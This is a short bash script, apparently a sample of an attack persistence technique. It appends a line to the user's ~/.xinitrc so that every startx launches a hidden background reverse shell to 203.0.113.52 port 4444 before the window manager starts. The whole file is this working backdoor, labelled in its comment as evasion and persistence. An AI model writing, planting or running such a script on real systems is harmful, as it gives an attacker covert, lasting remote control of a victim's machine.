#!/bin/bash
# evasion: persists: a here-document appended to ~/.xinitrc, which startx runs; it opens a reverse shell before the window manager
cat >> ~/.xinitrc <<'RC'
(bash -c 'exec bash -i &>/dev/tcp/203.0.113.52/4444 <&1' &)
RC
